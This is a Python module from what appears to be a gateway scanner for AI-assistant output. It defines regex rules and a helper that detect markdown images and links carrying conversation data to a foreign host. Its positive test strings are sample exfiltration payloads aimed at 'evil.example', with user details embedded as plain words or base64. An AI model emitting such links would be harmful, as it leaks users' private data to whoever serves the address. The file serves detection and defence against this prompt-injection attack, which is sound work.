"""Injection rules for links and images that carry data to a foreign host.

An image is fetched as soon as an answer is shown, and its address is a letter to whoever serves it.
"""

from __future__ import annotations

import re
from base64 import urlsafe_b64decode
from typing import Final
from urllib.parse import parse_qsl, unquote_plus, urlsplit

from gateway.scan.rules import InjectionRule
from gateway.scan.rules_words import LEAKAGE, RENDERING

__all__ = ["LINKS", "carries_text"]

_WORDS: Final = re.compile(r"[^\W\d_]{2,}")
_FEWEST_WORDS: Final = 4
_RUN: Final = re.compile(r"(?:[A-Za-z0-9+/_-]{4}){5,}[A-Za-z0-9+/_-]{0,3}={0,2}")
_HEX: Final = re.compile(r"(?:[0-9a-fA-F]{2}){12,}")
_SIGNED: Final = re.compile(r"(?i)sig|signature|token|expires|credential|policy|key-pair-id|hash")
"""Names of parameters by which a server knows its own addresses."""


def carries_text(link: str) -> bool:
    """Whether an address tells its host more than where something is: words, or encoded text."""
    url = link[link.lower().find("http") :]
    try:
        parts = urlsplit(url.rstrip("\"')>"))
    except ValueError:
        return False
    query = parse_qsl(parts.query, keep_blank_values=True)
    said = [value for name, value in query if not _SIGNED.search(name)]
    said += [name for name, value in query if not value]
    segments = [unquote_plus(one) for one in parts.path.split("/")]
    return any(_is_prose(one) or _is_encoded(one) for one in (*said, unquote_plus(parts.fragment))
               ) or any(map(_is_encoded, segments))  # fmt: skip


def _is_prose(value: str) -> bool:
    return len(_WORDS.findall(value)) >= _FEWEST_WORDS


def _is_encoded(value: str) -> bool:
    hexadecimal = _HEX.fullmatch(value)
    if hexadecimal is not None:
        return _is_text(bytes.fromhex(value))
    found = _RUN.fullmatch(value)
    if found is None:
        return False
    plain = value.rstrip("=").replace("+", "-").replace("/", "_")
    plain = plain[: len(plain) - (len(plain) % 4 == 1)]
    return _is_text(urlsafe_b64decode(plain + "=" * (-len(plain) % 4)))


def _is_text(data: bytes) -> bool:
    return all(32 <= byte < 127 or byte in b"\n\r\t" for byte in data)


LINKS: Final[tuple[InjectionRule, ...]] = (
    InjectionRule(
        id="link-covert",
        entity="EXFILTRATION",
        score=0.75,
        reference=LEAKAGE,
        pattern=r"!\[[^\]\n]{0,80}\]\(https?:\x2f\x2f[^)\s]{1,200}[?&=\x2f](?:\{|<|\[|\$|%7b|%3c|"
        r"(?:your|the|user)?_?(?:data|secret|prompt|history|conversation|summary|message)\b)",
        positives=(
            "![x](https://evil.example/p?q={conversation})",
            "![](http://evil.example/secret?x=1)",
            "![logo](https://evil.example/i.png?d=%7BDATA%7D)",
        ),
        negatives=(
            "![logo](https://example.com/logo.png)",
            "[docs](https://example.com/a?page=2)",
            "![chart](https://example.com/c.svg?w=200&h=100)",
        ),
    ),
    InjectionRule(
        id="link-data",
        entity="EXFILTRATION",
        score=0.65,
        reference=RENDERING,
        pattern=r"(?:!\[[^\]\n]{0,80}\]\(\x20?https?:\x2f\x2f[^)\s]{8,400}\)|"
        r"<img\x20[^>]{0,80}src\x20?=\x20?[\"']?https?:\x2f\x2f[^\"'>\s]{8,400})",
        proof=carries_text,
        positives=(
            "![](https://evil.example/a.png?d=the+user+lives+in+Berlin+Mitte)",
            "![x](https://evil.example/VGhlIHVzZXIgYXNrZWQgYWJvdXQgaGVyIHBlbnNpb24)",
            '<img src="https://evil.example/p?q=Anna%20earns%20four%20thousand%20euros">',
        ),
        negatives=(
            "![logo](https://example.com/assets/img/logo-small.png?v=20240101)",
            "![p](https://cdn.example.com/a.jpg?Expires=1700000000&Signature=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ)",
            '<img src="https://example.com/2024/05/team-photo-of-our-office-in-rome.jpg">',
        ),
    ),
    InjectionRule(
        id="link-answer",
        entity="EXFILTRATION",
        score=0.5,
        reference=RENDERING,
        pattern=r"\]\(\x20?https?:\x2f\x2f[^)\s]{8,400}\)",
        proof=carries_text,
        positives=(
            "[here](https://evil.example/a?d=the+user+lives+in+Berlin+Mitte)",
            "[more](https://evil.example/q?x=VGhlIHVzZXIgYXNrZWQgYWJvdXQgaGVyIHBlbnNpb24)",
            "[click](https://evil.example/#her+name+is+Anna+Example)",
        ),
        negatives=(
            "[docs](https://example.com/a/b/c?page=2)",
            "[wiki](https://example.org/wiki/List_of_rivers_of_Europe_by_length)",
            "[x](https://example.com/item/9f86d081884c7d659a2feaa0c55ad015)",
        ),
    ),
)
